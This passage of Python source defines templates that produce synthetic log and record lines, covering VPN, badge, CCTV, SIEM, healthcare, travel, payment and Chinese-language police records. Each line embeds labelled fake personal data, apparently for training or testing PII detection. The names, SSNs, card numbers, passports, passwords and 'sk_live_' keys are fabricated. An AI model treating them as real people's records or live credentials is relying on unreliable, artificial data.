        L.f("«0» asa-edge01 : %ASA-6-722051: Group <GroupPolicy_Staff> User <«1»> IP <«2»> IPv4 Address <«3»> IPv6 address <«4»> assigned to session",
            d.strftime("%b %d %Y %H:%M:%S"), (em, "EMAIL_ADDRESS"), (ip, "IP_ADDRESS"), (g.ip_private(), "IP_ADDRESS"), ("::", "loopback"))
    elif x < 0.8:
        L.f("«0» asa-edge01 : %ASA-4-113019: Group = Staff, Username = «1», IP = «2», Session disconnected. Session Type: SSL, Duration: «3»h:«4»m:«5»s, Bytes xmt: «6», Bytes rcv: «7», Reason: «8»",
            d.strftime("%b %d %Y %H:%M:%S"), (em, "EMAIL_ADDRESS"), (ip, "IP_ADDRESS"), str(g.r.randint(0, 9)), "%02d" % g.r.randint(0, 59),
            "%02d" % g.r.randint(0, 59), str(g.r.randint(1000, 10 ** 8)), str(g.r.randint(1000, 10 ** 8)), g.c(["User Requested", "Idle Timeout", "Lost Service"]))
    else:
        L.f("«0» asa-edge01 : %ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = «1» : user = «2» : user IP = «3»",
            d.strftime("%b %d %Y %H:%M:%S"), (g.ip_server(), "server_ip"), (em, "EMAIL_ADDRESS"), (ip, "IP_ADDRESS"))


def _t_badge(g, L):
    d = g.dt()
    f, l = g.wname()
    badge = "%06d" % g.r.randint(1, 999999)
    if g.r.random() < 0.5:
        L.f("«0»,«1»,Reader: «2»,Cardholder: «3»,Badge: «4»,Facility: «5»,Panel: LNL-2220 #«6»",
            (d.strftime("%Y-%m-%d %H:%M:%S"), "timestamp"), g.c(["Access Granted", "Access Denied - Invalid Badge", "Door Forced Open", "Access Denied - Outside Schedule"]),
            g.c(["HQ-L3-EAST-IN", "DC1-CAGE-07", "LOBBY-TS-02", "PARKING-B1-GATE"]), (l + ", " + f, "PERSON"), (badge, "badge_id"),
            str(g.r.randint(1, 300)), str(g.r.randint(1, 30)))
    else:
        L.f("[«0»] EVT ACCESS_DENIED door=\"«1»\" credential=«2» holder=\"«3»\" reason=\"antipassback\" escort_host=\"«4»\" notify=«5»",
            d.strftime("%d/%m/%Y %H:%M:%S"), g.c(["Server Room 2", "Pharmacy Store", "Lab B"]), (badge, "badge_id"),
            (f + " " + l, "PERSON"), (g.wfull(), "PERSON"), (g.phone(style="e164"), "PHONE_NUMBER"))


def _t_cctv(g, L):
    d = g.dt()
    x = g.r.random()
    cam_ip = "192.168.%d.%d" % (g.r.randint(1, 9), g.r.randint(60, 99))
    if x < 0.45:
        L.f("«0» NVR-«1» ALARM type=FaceMatch ch=D«2» cam=«3» watchlist=\"«4»\" match=\"«5»\" similarity=«6» snapshot=/alarm/«7».jpg",
            (d.strftime("%Y-%m-%d %H:%M:%S"), "timestamp"), g.c(["B2", "HQ", "WH1"]), str(g.r.randint(1, 32)), (cam_ip, "device_ip"),
            g.c(["Banned", "VIP", "Staff"]), (g.wfull(), "PERSON"), "0.%d" % g.r.randint(70, 99), g.hexs(16))
    elif x < 0.8:
        L.f("«0» NVR-«1» ALARM type=ANPR ch=D«2» cam=«3» plate=«4» list=blacklist gate=Carpark-Exit-2 action=hold_barrier",
            (d.strftime("%Y-%m-%d %H:%M:%S"), "timestamp"), g.c(["B2", "HQ", "WH1"]), str(g.r.randint(1, 32)), (cam_ip, "device_ip"),
            (g.plate(), "LICENSE_PLATE"))
    else:
        L.f("«0» NVR-«1» ALARM type=MotionDetection ch=D«2» cam=«3» armed_by=«4» remote_view_from=«5»",
            (d.strftime("%Y-%m-%d %H:%M:%S"), "timestamp"), g.c(["B2", "HQ"]), str(g.r.randint(1, 32)), (cam_ip, "device_ip"),
            (g.wfull(), "PERSON"), (g.ip4(), "IP_ADDRESS"))


def _t_siem(g, L):
    f, l = g.wname()
    em = g.email(f, l)
    x = g.r.random()
    if x < 0.4:
        L.f("Correlated alert #«0» (High): «1» failed logins for «2» from «3» were followed by a successful login from «4» within «5» minutes. The account owner, «6», was notified by SMS at «7». Rule: Brute Force Followed by Success (id «8»).",
            (str(g.r.randint(1000, 99999)), "case_number"), str(g.r.randint(5, 60)), (em, "EMAIL_ADDRESS"), (g.ip4(), "IP_ADDRESS"),
            (g.ip_user(), "IP_ADDRESS"), str(g.r.randint(2, 15)), (f + " " + l, "PERSON"), (g.phone(style="intl"), "PHONE_NUMBER"),
            (str(g.r.randint(100000, 200000)), "rule_id"))
    elif x < 0.7:
        L.f("Impossible travel: «0» signed in from «1» («2») and from «3» («4») «5» minutes apart. Analyst «6» closed the case as true positive and reset the password; the old password («7») had been pasted into a helpdesk ticket.",
            (f, "PERSON"), (g.ip4(), "IP_ADDRESS"), (g.c(_PLACES), "place"), (g.ip6(), "IP_ADDRESS"), (g.c(_PLACES), "place"),
            str(g.r.randint(5, 90)), (g.wfull(), "PERSON"), (g.password(), "CREDENTIAL"))
    else:
        what = g.c([("card number", (g.card(), "CREDIT_CARD")), ("SSN", (g.ssn(), "US_SSN")),
                    ("IBAN", (g.iban(), "IBAN_CODE"))])
        L.f("Summary: DLP policy «0» matched an outbound mail from «1» to «2» containing «6» «3»; the message was quarantined. Note: this is not related to the «4» phishing lure that mentions «5».",
            (g.c(["PCI-EXT-01", "PCI-EXT-02", "PII-SSN-03"]), "rule_id"), (em, "EMAIL_ADDRESS"), (g.email(), "EMAIL_ADDRESS"), what[1],
            g.c(["DocuSign", "DHL", "Microsoft 365"]), (g.c(_PUBLIC), "public_figure"), what[0])


# ---------------------------------------------------------------------------
# templates: care, travel, commerce
# ---------------------------------------------------------------------------
def _t_ehr(g, L):
    d = g.dt()
    pf, pl = g.wname()
    df, dl = g.wname()
    L.f("«0» AUDIT user=U«1» («2») role=Physician action=«3» resource=Patient/«4» patient_name=\"«5»\" reason=«6» client_ip=«7» session=«8»",
        (d.strftime("%Y-%m-%dT%H:%M:%SZ"), "timestamp"), g.digits(5), (dl + ", " + df, "PERSON"), g.c(["READ", "UPDATE", "PRINT", "BREAK_GLASS"]),
        g.digits(6), (pf + " " + pl, "PERSON"), g.c(["TREATMENT", "PAYMENT", "OPERATIONS"]), (g.ip_private(), "IP_ADDRESS"),
        (g.cookie(), "CREDENTIAL"))
    if g.r.random() < 0.4:
        L.f(" contact_phone=«0»", (g.phone(style="national"), "PHONE_NUMBER"))


def _t_hl7(g, L):
    d = g.dt()
    pf, pl = g.wname()
    df, dl = g.wname()
    up = lambda s: _fold(s).upper()
    L.f("«0» INFO  [mllp-listener] HL7 IN «1» bytes: MSH|^~\\&|LIS|CENTRAL_LAB|EHR|NORTHSIDE|«2»||ORU^R01|«3»|P|2.5.1\\rPID|1||«4»^^^NORTHSIDE^MR||«5»||«6»|«7»|||^^«8»||«9»|\\r",
        d.strftime("%Y-%m-%d %H:%M:%S,%f")[:-3], str(g.r.randint(400, 3000)), (d.strftime("%Y%m%d%H%M%S"), "timestamp"),
        "MSG" + g.digits(8), g.digits(7), (up(pl) + "^" + up(pf), "PERSON"), str(g.r.randint(1940, 2010)) + "%02d%02d" % (g.r.randint(1, 12), g.r.randint(1, 28)),
        g.c("MF"), g.c(_PLACES), (g.phone(style="national"), "PHONE_NUMBER"))
    L.f("OBR|1|«0»|«1»|24331-1^Lipid panel^LN|||«2»|||||||||«3»^«4»^^^^DR\\rOBX|1|NM|2093-3^Cholesterol^LN||«5»|mg/dL|<200|N|||F",
        g.digits(8), g.digits(8), d.strftime("%Y%m%d%H%M"), g.digits(6), (up(dl) + "^" + up(df), "PERSON"), (str(g.r.randint(120, 290)), "amount"))


def _t_pharmacy(g, L):
    d = g.dt()
    pf, pl = g.wname()
    L.f("«0» store=#«1» RX_DISPENSE rx=RX«2» patient=\"«3»\" phone=«4» drug=\"«5»\" ndc=«6» qty=«7» days=30 prescriber=\"Dr. «8»\" npi=«9» status=«10»",
        (d.strftime("%Y-%m-%d %H:%M:%S"), "timestamp"), g.digits(4), g.digits(7), (pf + " " + pl, "PERSON"),
        (g.phone(g.c(["US", "CA", "GB", "AU", "NZ"]), style=g.c(["national", "intl"])), "PHONE_NUMBER"),
        g.c(["Atorvastatin 20mg TAB", "Amoxicillin 500mg CAP", "Metformin 850mg TAB", "Sertraline 50mg TAB"]),
        ("%05d-%04d-%02d" % (g.r.randint(0, 99999), g.r.randint(0, 9999), g.r.randint(0, 99)), "product_code"),
        str(g.r.choice([30, 60, 90])), (g.wname()[1], "PERSON"), ("1" + g.digits(9), "npi"), g.c(["FILLED", "PICKED_UP", "RTS"]))


def _t_appt(g, L):
    d = g.dt()
    f, _l = g.wname()
    dl = g.wname()[1]
    loc = g.c(["GB", "IE", "NZ", "AU", "US"])
    L.f("«0» INFO sms.outbound to=«1» from=«2» template=APPT_REMINDER_24H body=\"Hi «3», this is a reminder of your appointment with Dr «4» on «5» at Northside Clinic. Reply C to confirm or call «6».\" status=queued sid=SM«7»",
        d.strftime("%Y-%m-%d %H:%M:%S"), (g.phone(loc, style="e164"), "PHONE_NUMBER"), g.c(["NORTHSIDE", "Clinic"]), (f, "PERSON"),
        (dl, "PERSON"), (d.strftime("%a %d %b %H:%M"), "timestamp"), (g.c(["0800 123 456", "1-800-555-0199", "0345 600 3000"]), "hotline"),
        g.hexs(32))


def _t_edi(g, L):
    d = g.dt()
    f, l = g.wname()
    up = lambda s: _fold(s).upper().replace("'", "")
    L.f("ISA*00*          *00*          *ZZ*CLEARHOUSE01   *ZZ*PAYER0042      *«0»*«1»*^*00501*«2»*0*P*:~GS*HC*CLEARHOUSE01*PAYER0042*«3»*«1»*«4»*X*005010X222A1~ST*837*0001*005010X222A1~",
        d.strftime("%y%m%d"), d.strftime("%H%M"), g.digits(9), d.strftime("%Y%m%d"), str(g.r.randint(1, 9999)))
    L.f("NM1*IL*1*«0»*«1»****MI*«2»~REF*SY*«3»~PER*IC**TE*«4»~CLM*«5»*«6»***11:B:1*Y*A*Y*Y~HI*ABK:«7»~SE*24*0001~",
        (up(l), "PERSON"), (up(f), "PERSON"), "XYZ" + g.digits(9), (g.ssn(dashed=False), "US_SSN"),
        (g.phone("US", style="raw")[1:], "PHONE_NUMBER"), ("CLM" + g.digits(8), "claim_id"), (g.amount(), "amount"),
        (g.c(["J0190", "E119", "I10", "M545"]), "product_code"))


def _t_hotel_pms(g, L):
    d = g.dt()
    f, l = g.wname()
    up = lambda s: _fold(s).upper()
    L.f("«0» OPERA RESV «1» «2» room=«3» guest=«4» «5» arr=«6» dep=«7» rate=BAR «8» EUR email=«9» mobile=«10»",
        d.strftime("%d-%b-%y %H:%M").upper(), g.digits(8), g.c(["CHECKIN", "CHECKOUT", "MODIFY"]), (str(g.r.randint(101, 2412)), "room_number"),
        (up(l) + "/" + up(f), "PERSON"), g.c(["MR", "MRS", "MS", "DR"]), d.strftime("%d%b").upper(), (d + datetime.timedelta(days=3)).strftime("%d%b").upper(),
        (g.amount(), "amount"), (g.email(f, l), "EMAIL_ADDRESS"), (g.phone(), "PHONE_NUMBER"))
    if g.r.random() < 0.5:
        L.f(" cc=«0» exp=**/** auth=«1»", (g.masked_card(), "masked"), g.digits(6))
    else:
        L.f(" passport=«0» nationality=«1»", (g.passport(), "PASSPORT"), g.c(["CHN", "GBR", "DEU", "USA", "FRA"]))


def _t_dcs(g, L):
    d = g.dt()
    f, l = g.wname()
    up = lambda s: re.sub(r"[^A-Z]", "", _fold(s).upper())
    fl = g.flight()
    L.f("«0» DCS CKIN «1»/«2» «3»-«4» SEQ «5» «6» «7» SEAT «8» BAG «9»/«10»KG PNR «11»",
        d.strftime("%H%M%S"), (fl, "flight_number"), d.strftime("%d%b").upper(), g.c(["LHR", "PEK", "SIN", "AKL", "DUB", "FRA"]),
        g.c(["JFK", "SHA", "HKG", "SYD", "CDG", "MAD"]), "%03d" % g.r.randint(1, 320), (up(l) + "/" + up(f), "PERSON"),
        g.c(["MR", "MRS", "MS", "MSTR"]), (g.seat(), "seat_number"), str(g.r.randint(0, 2)), str(g.r.randint(0, 46)), (g.pnr(), "booking_ref"))
    if g.r.random() < 0.7:
        L.f(" DOCS PASSPORT/«0»/«1»/EXP «2»", g.c(["GBR", "CHN", "DEU", "USA", "JPN", "KOR"]), (g.passport(), "PASSPORT"), str(g.r.randint(2027, 2035)))
    L.f(" CTCM «0»", (g.phone(style="raw"), "PHONE_NUMBER"))


def _t_bcbp(g, L):
    f, l = g.wname()
    up = lambda s: re.sub(r"[^A-Z]", "", _fold(s).upper())
    name = (up(l) + "/" + up(f))[:16]
    pad = " " * (20 - len(name) - 3)
    fl = g.flight()
    L.f("«0» gate-reader B«1» SCAN OK data=\"M1«2» MR«3»E«4» «5»«6»«7» «8» «9»Y«10»«11» 100\" pax=«12»",
        g.dt().strftime("%Y-%m-%dT%H:%M:%S"), str(g.r.randint(1, 60)), (name, "PERSON"), pad, (g.pnr(), "booking_ref"),
        g.c(["LHRJFK", "PEKSHA", "SINHKG", "AKLSYD"]), fl[:2], " ", fl[2:].rjust(4, "0"), "%03d" % g.r.randint(1, 365),
        ("%03d%s" % (g.r.randint(1, 62), g.c("ABCDEFHJK")), "seat_number"), "%04d" % g.r.randint(1, 320),
        (f + " " + l, "PERSON"))


def _t_ota(g, L):
    f, l = g.wname()
    d = g.dt()
    L.f('{"event":"reservation.created","created_at":"«0»","hotel_id":"«1»","reservation":{"id":"«2»","status":"confirmed","guest":{"first_name":"«3»","last_name":"«4»","email":"«5»","phone":"«6»"},',
        (d.strftime("%Y-%m-%dT%H:%M:%S+00:00"), "timestamp"), g.digits(7), (g.digits(10), "order_id"), (f, "PERSON"), (l, "PERSON"),
        (g.email(f, l), "EMAIL_ADDRESS"), (g.phone(style=g.c(["e164", "intl"])), "PHONE_NUMBER"))
    L.f('"rooms":[{"room_type":"DBL","guests":«0»,"price":{"amount":"«1»","currency":"EUR"}}],"payment":{"type":"virtual_card","card":{"number":"«2»","holder":"«3»","expiry":"«4»"}},',
        str(g.r.randint(1, 4)), (g.amount(), "amount"), (g.card(grouped=False), "CREDIT_CARD"),
        ((_fold(f) + " " + _fold(l)).upper(), "PERSON"), "%02d/%d" % (g.r.randint(1, 12), g.r.randint(27, 31)))
    L.f('"remarks":"{\\"arrival_time\\":\\"«0»\\",\\"note\\":\\"travelling with «1»\\"}"}}',
        "%02d:00" % g.r.randint(12, 23), (g.wfull(), "PERSON"))


def _t_car_rental(g, L):
    d = g.dt()
    _zs, _zg = g.zname()
    L.f("«0» RA#«1» «2» branch=«3» renter=«4» «5» id_type=«6» id_no=«7» mobile=«8» plate=«9» odo=«10» fuel=«11»/8",
        (d.strftime("%Y-%m-%d %H:%M"), "timestamp"), "A" + g.digits(7), g.c(["CHECKOUT", "RETURN"]), g.c(["SZX-T3", "PVG-T2", "CTU-T1"]),
        (g.fk["zh_CN"].last_romanized_name().upper(), "PERSON"), (g.fk["zh_CN"].first_romanized_name().upper(), "PERSON"),
        "ID", (g.cnid(), "CN_RESIDENT_ID"), (g.cn_mobile(), "PHONE_NUMBER"), (g.plate(), "LICENSE_PLATE"), str(g.r.randint(1000, 90000)), str(g.r.randint(1, 8)))
    if g.r.random() < 0.4:
        f, l = g.wname()
        L.f(" add_driver=\"«0»\" passport=«1»", (f + " " + l, "PERSON"), (g.passport(g.c(["GB", "US", "DE", "FR"])), "PASSPORT"))


def _t_ticket(g, L):
    f, l = g.wname()
    d = g.dt()
    L.f("«0» [orders] INFO order=«1» event=\"«2» - World Tour\" buyer=\"«3»\" <«4»> seats=\"Sec «5» Row «6» Seat «7»-«8»\" total=«9» card=«10» ip=«11»",
        d.strftime("%Y-%m-%d %H:%M:%S"), ("TM-" + d.strftime("%Y%m%d") + "-" + g.digits(5), "order_id"), (g.c(_PUBLIC), "public_figure"),
        (f + " " + l, "PERSON"), (g.email(f, l), "EMAIL_ADDRESS"), str(g.r.randint(100, 330)), g.c("ABCDEFGH"), str(g.r.randint(1, 20)),
        str(g.r.randint(21, 30)), (g.amount(), "amount"), ("Visa ending " + g.digits(4), "masked"), (g.ip_user(), "IP_ADDRESS"))


def _t_food(g, L):
    d = g.dt()
    cf, cl = g.wname()
    reg = g.c(["AU", "NZ", "GB", "SG", "MY", "TH", "PH"])
    L.f("«0» dispatch order=«1» courier_id=R-«2» courier=\"«3»\" courier_phone=«4» customer=\"«5» «6».\" drop=\"«7»\" eta=«8»min",
        (d.strftime("%H:%M:%S"), "timestamp"), ("DD" + g.digits(8), "order_id"), g.digits(5), (g.wfull(), "PERSON"),
        (g.phone(reg, style=g.c(["e164", "national"])), "PHONE_NUMBER"), (cf, "PERSON"), cl[0], g.c(_PLACES), str(g.r.randint(5, 45)))
    if g.r.random() < 0.5:
        L.f(" note=\"gate code 4412, call «0» on arrival\"", (g.phone(reg, style="national"), "PHONE_NUMBER"))


def _t_dispute(g, L):
    f, l = g.wname()
    d = g.dt()
    ph = g.phone()
    L.f('{"dispute_id":"«0»","order_id":"«1»","opened":"«2»","buyer":{"name":"«3»","email":"«4»"},"seller":"Harbor Gadgets Ltd","reason":"ITEM_NOT_RECEIVED","amount":"«5»","messages":[{"from":"buyer","body":"Hi, I\'m «6», the parcel never arrived. You can reach me at «7».","at":"«8»"}]}',
        ("DSP-" + g.digits(7), "case_number"), ("%03d-%07d-%07d" % (g.r.randint(100, 999), g.r.randint(0, 10 ** 7 - 1), g.r.randint(0, 10 ** 7 - 1)), "order_id"),
        d.strftime("%Y-%m-%dT%H:%M:%SZ"), (f + " " + l, "PERSON"), (g.email(f, l), "EMAIL_ADDRESS"), (g.amount(), "amount"),
        (f, "PERSON"), (ph, "PHONE_NUMBER"), d.strftime("%Y-%m-%dT%H:%M:%SZ"))
    if g.r.random() < 0.4:
        L.f(' refund_to_iban=«0» account_holder="«1»"', (g.iban(), "IBAN_CODE"), (f + " " + l, "PERSON"))


def _t_loyalty(g, L):
    f, l = g.wname()
    d = g.dt()
    L.f("«0» loyalty.accrual member_no=«1» name=«2» tier=«3» points=+«4» balance=«5» txn=«6» channel=«7» email=«8»",
        d.strftime("%Y-%m-%d %H:%M:%S"), ("LP" + g.digits(9), "member_id"), (f + " " + l, "PERSON"), g.c(["SILVER", "GOLD", "PLATINUM"]),
        str(g.r.randint(10, 5000)), str(g.r.randint(100, 90000)), ("T" + g.digits(12), "order_id"), g.c(["POS", "APP", "WEB"]),
        (g.email(f, l), "EMAIL_ADDRESS"))
    if g.r.random() < 0.4:
        L.f(" linked_card=«0»", (g.card(), "CREDIT_CARD"))


def _t_chat(g, L):
    d = g.dt()
    r = g.r
    x = r.random()
    if x < 0.3:
        zf = g.zfull()
        esc = "".join(f"\\u{ord(c):04x}" for c in zf)
        L.f('{"ts":"«0»","conversation_id":"«1»","role":"customer","author":"«2»","text":"\\u6211\\u7684\\u624b\\u673a\\u662f «3»"}',
            (d.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "timestamp"), g.uuid(), (esc, "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"))
    elif x < 0.45:
        f, l = g.wname()
        L.f('{"ts":"«0»","conversation_id":"«1»","role":"customer","author":"«2»","text":"please send the refund to «3», my SSN for the tax form is «4»"}',
            (d.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "timestamp"), g.uuid(), (f, "PERSON"), (g.iban(), "IBAN_CODE"),
            (g.ssn(), "US_SSN"))
    elif x < 0.65:
        f, l = g.wname()
        L.f('{"ts":"«0»","conversation_id":"«1»","role":"customer","author":"«2»","text":"hi, my email is «3» and my card «4» was charged twice"}',
            (d.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "timestamp"), g.uuid(), (f + " " + l, "PERSON"), (g.email(f, l), "EMAIL_ADDRESS"),
            (g.card(grouped=True), "CREDIT_CARD"))
    else:
        f, l = g.wname()
        L.f('{"ts":"«0»","conversation_id":"«1»","role":"agent","author":"bot","event":"form_submitted","payload":"{\\"name\\":\\"«2»\\",\\"phone\\":\\"«3»\\",\\"order\\":\\"«4»\\"}"}',
            (d.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "timestamp"), g.uuid(), (f + " " + l, "PERSON"),
            (g.phone(style="e164"), "PHONE_NUMBER"), ("#" + g.digits(6), "order_id"))


def _t_payment(g, L):
    d = g.dt()
    f, l = g.wname()
    L.f("«0» DEBUG [http-client] POST https://api.stripe.com/v1/payment_methods headers={Authorization: Bearer «1», Idempotency-Key: «2»} body=type=card&card%5Bnumber%5D=«3»&card%5Bexp_month%5D=«4»&billing_details%5Bname%5D=«5»&billing_details%5Bemail%5D=«6»",
        d.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], ("sk_live_" + g.alnum(24), "CREDENTIAL"), g.uuid(), (g.card(grouped=False), "CREDIT_CARD"),
        str(g.r.randint(1, 12)), (g.pct(f + " " + l), "PERSON"), (g.pct(g.email(f, l)), "EMAIL_ADDRESS"))
    L.f(" -> «0» «1» request_id=req_«2»", g.c(["200", "402"]), g.c(["OK", "card_declined"]), g.alnum(14))


def _t_payout(g, L):
    d = g.dt()
    f, l = g.wname()
    cc = g.c(["DE", "GB", "NL", "IE", "CH", "AT", "SE", "BE", "FR", "ES", "TR", "BR", "PL"])
    L.f("«0» INFO payout.created id=po_«1» beneficiary_name=\"«2»\" iban=«3» bic=«4» amount=«5» «6» reference=«7»",
        d.strftime("%Y-%m-%dT%H:%M:%S%z") or d.strftime("%Y-%m-%dT%H:%M:%S"), g.alnum(24), (f + " " + l, "PERSON"),
        (g.iban(cc), "IBAN_CODE"), (g.c(["COBADEFFXXX", "NWBKGB2L", "INGBNL2A", "AIBKIE2D", "BNPAFRPP"]), "bic"),
        (g.amount(), "amount"), g.c(["EUR", "GBP", "CHF", "SEK"]), ("INV-2026-" + g.digits(4), "order_id"))
    if g.r.random() < 0.3:
        L.f(" notify=«0»", (g.email(f, l), "EMAIL_ADDRESS"))


def _t_tenant(g, L):
    d = g.dt()
    f, l = g.wname(g.c(["en_US", "en_US", "es_CO", "vi_VN", "zh_CN"]))
    L.f("«0» screening req=SCR-«1» applicant=«2» ssn=«3» email=«4» phone=«5» bureau=«6» score_band=«7» result=«8»",
        d.strftime("%Y-%m-%d %H:%M:%S"), g.digits(6), (f + " " + l, "PERSON"), (g.ssn(), "US_SSN"), (g.email(f, l), "EMAIL_ADDRESS"),
        (g.phone("US", style=g.c(["national", "e164"])), "PHONE_NUMBER"), g.c(["TransUnion", "Experian", "Equifax"]),
        g.c(["A", "B", "C"]), g.c(["PASS", "REVIEW", "DECLINE"]))


def _t_guestreg(g, L):
    d = g.dt()
    f, l = g.wname()
    up = lambda s: _fold(s).upper()
    L.f("«0»|ALLOGGIATI|schedina=«1»|tipo=16|cognome=«2»|nome=«3»|sesso=«4»|cittadinanza=«5»|doc_type=PASSPORT|doc_no=«6»|arrivo=«7»|notti=«8»|struttura=«9»",
        d.strftime("%Y%m%d%H%M%S"), g.digits(6), (up(l), "PERSON"), (up(f), "PERSON"), g.c("12"), g.c(["100000100", "100000219", "100000216"]),
        (g.passport(), "PASSPORT"), d.strftime("%d/%m/%Y"), str(g.r.randint(1, 9)), g.c(["HOTEL DUOMO MILANO", "B&B TRASTEVERE"]))


# ---------------------------------------------------------------------------
# templates: Chinese
# ---------------------------------------------------------------------------
def _zts(g, fmt="%Y-%m-%d %H:%M:%S"):
    return g.dt().strftime(fmt)


def _t_zh_patrol(g, L):
    s, n = g.zname()
    x = g.r.random()
    if x < 0.5:
        L.f("«0» 【巡逻记录】岗位：«1» 巡逻员：«2»（工号«3»） 发现可疑人员一名，自称«4»，联系电话«5»，已登记身份证号«6»并劝离。",
            (_zts(g), "timestamp"), g.c(["B区东门", "地下车库B2", "3号楼大堂", "西侧围墙"]), (g.zfull(), "PERSON"), ("A" + g.digits(4), "employee_id"),
            (s + n, "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"), (g.cnid(), "CN_RESIDENT_ID"))
    else:
        a, b, c = g.zfull(), g.zfull(), g.zfull()
        L.f("巡逻日志|«0»|班组：«1»、«2»、«3»|路线：«4»|打卡点12/12|异常：无|交班人 «5»«6»|值班电话 «7»",
            (_zts(g, "%Y/%m/%d %H:%M"), "timestamp"), (a, "PERSON"), (b, "PERSON"), (c, "PERSON"), g.c(["一号线", "外围环线", "地库线"]),
            (g.zname()[0], "PERSON"), "队长", (g.c(["110", "0755-8888 0000", "400-800-8899"]), "hotline"))


def _t_zh_gate(g, L):
    s, n = g.zname()
    hs = g.zname()[0]
    gs = g.zname()[0]
    L.f("访客登记|«0»|姓名=«1»|证件类型=居民身份证|证件号=«2»|手机=«3»|车牌=«4»|被访人：«5»经理(财务部)|事由：«6»|放行人：保安 «7»师傅",
        (_zts(g, "%Y/%m/%d %H:%M"), "timestamp"), (s + n, "PERSON"), (g.cnid(), "CN_RESIDENT_ID"), (g.cn_mobile(), "PHONE_NUMBER"),
        (g.plate(), "LICENSE_PLATE"), (hs, "PERSON"), g.c(["送货", "面试", "设备维修", "拜访"]), (gs, "PERSON"))


def _t_zh_cctv(g, L):
    x = g.r.random()
    if x < 0.4:
        L.f("[监控告警] «0» 通道：«1» 事件：«2» 车牌：«3» 抓拍ID：«4» 设备IP：«5»",
            (_zts(g), "timestamp"), g.c(["地下车库B2-07", "南门出口", "消防通道3"]), g.c(["车辆违停", "黑名单车辆", "占用消防通道"]),
            (g.plate(), "LICENSE_PLATE"), g.hexs(16), ("192.168.%d.%d" % (g.r.randint(1, 9), g.r.randint(60, 99)), "device_ip"))
    elif x < 0.75:
        L.f("[人脸布控] «0» 摄像机：«1» 比对人员：«2»（身份证 «3»） 相似度«4»% 处置：通知«5»警官",
            (_zts(g), "timestamp"), g.c(["大堂-01", "电梯厅-3F", "东门闸机"]), (g.zfull(), "PERSON"), (g.cnid(), "CN_RESIDENT_ID"),
            str(g.r.randint(80, 99)), (g.zname()[0], "PERSON"))
    else:
        L.f("«0» 视频平台登录异常：账号 «1» 从 «2» 连续5次密码错误，最后尝试密码“«3»”，已锁定；管理员«4»已处理。",
            (_zts(g), "timestamp"), (g.cn_email(), "EMAIL_ADDRESS"), (g.ip_user(private=0.3), "IP_ADDRESS"), (g.password(), "CREDENTIAL"),
            (g.zfull(), "PERSON"))


def _t_zh_fire(g, L):
    a, b = g.zfull(), g.zfull()
    L.f("消防巡检记录 编号XF-«0» 检查人：«1»、«2» 巡检区域：«3» 灭火器压力正常，消火栓«4»处，喷淋末端试水正常。火警请拨«5»。负责人«6»经理 «7»",
        ("2026-" + g.digits(4), "case_number"), (a, "PERSON"), (b, "PERSON"), g.c(["3号楼", "商业裙楼B1", "厨房区域"]), str(g.r.randint(2, 20)),
        ("119", "hotline"), (g.zname()[0], "PERSON"), (g.c([g.cn_mobile(), g.cn_landline()]), "PHONE_NUMBER"))


def _t_zh_property(g, L):
    s = g.zname()[0]
    L.f("【物业工单】工单号WY«0» 报修人：«1»栋«2»单元«3»室 «4»女士 电话 «5» 问题：«6» 指派：维修工 «7»师傅 预约«8»上门。",
        (_zts(g, "%Y%m%d") + g.digits(3), "order_id"), str(g.r.randint(1, 30)), str(g.r.randint(1, 4)), (str(g.r.randint(101, 3204)), "room_number"),
        (s, "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"), g.c(["卫生间漏水", "门禁卡失效", "电梯异响", "楼道灯不亮"]),
        (g.zname()[0], "PERSON"), _zts(g, "%m月%d日%H时"))
    if g.r.random() < 0.4:
        L.f(" 车位 «0» 绑定车辆 «1»", ("B2-" + g.digits(3), "place"), (g.plate(), "LICENSE_PLATE"))


def _t_zh_police(g, L):
    s, n = g.zname()
    x = g.r.random()
    if x < 0.5:
        L.f("出入境业务受理 受理编号：«0» 申请人：«1» 性别：«2» 公民身份号码：«3» 申请类别：普通护照 «4» 旧护照号码：«5» 联系电话：«6» 经办民警：«7»警官",
            ("CRJ" + _zts(g, "%Y%m%d") + g.digits(4), "case_number"), (s + n, "PERSON"), g.c(["男", "女"]), (g.cnid(), "CN_RESIDENT_ID"),
            g.c(["换发", "补发", "首次申领"]), (g.passport("CN"), "PASSPORT"), (g.cn_mobile(), "PHONE_NUMBER"), (g.zname()[0], "PERSON"))
    else:
        L.f("户籍业务|«0»|业务类型=户口迁入|申请人=«1»|身份证号=«2»|随迁人员=«3»、«4»|联系电话=«5»|受理民警=«6»|状态=待审核",
            (_zts(g), "timestamp"), (s + n, "PERSON"), (g.cnid(), "CN_RESIDENT_ID"), (s + g.zname()[1], "PERSON"), (g.zfull(), "PERSON"),
            (g.c([g.cn_mobile(), g.cn_landline()]), "PHONE_NUMBER"), (g.zfull(), "PERSON"))


def _t_zh_lab(g, L):
    L.f("检验报告单 条码号：«0» 姓名：«1» 性别：«2» 年龄：«3»岁 科室：«4» 床号：«5» 送检医生：«6»医生 标本：血清 谷丙转氨酶(ALT) «7» U/L 参考范围 9-50 检验者：«8» 审核者：«9»",
        (g.digits(12), "barcode"), (g.zfull(), "PERSON"), g.c(["男", "女"]), str(g.r.randint(1, 95)), g.c(["心内科", "消化内科", "急诊科"]),
        str(g.r.randint(1, 60)), (g.zname()[0], "PERSON"), (str(g.r.randint(5, 200)), "amount"), (g.zfull(), "PERSON"), (g.zfull(), "PERSON"))
    if g.r.random() < 0.3:
        L.f(" 报告查询请致电«0»", (g.c(["12320", "020-12345678 转 8"]), "hotline"))


def _t_zh_rx(g, L):
    L.f('{"rx_no":"«0»","visit_time":"«1»","patient":{"name":"«2»","id_card":"«3»","phone":"«4»","age":«5»},"doctor":"«6»","dept":"«7»","drugs":[{"name":"«8»","spec":"0.25g*24粒","qty":«9»,"usage":"口服 一日三次"}],"total":"«10»"}',
        ("CF" + g.digits(10), "order_id"), (_zts(g), "timestamp"), (g.zfull(), "PERSON"), (g.cnid(), "CN_RESIDENT_ID"), (g.cn_mobile("plain"), "PHONE_NUMBER"),
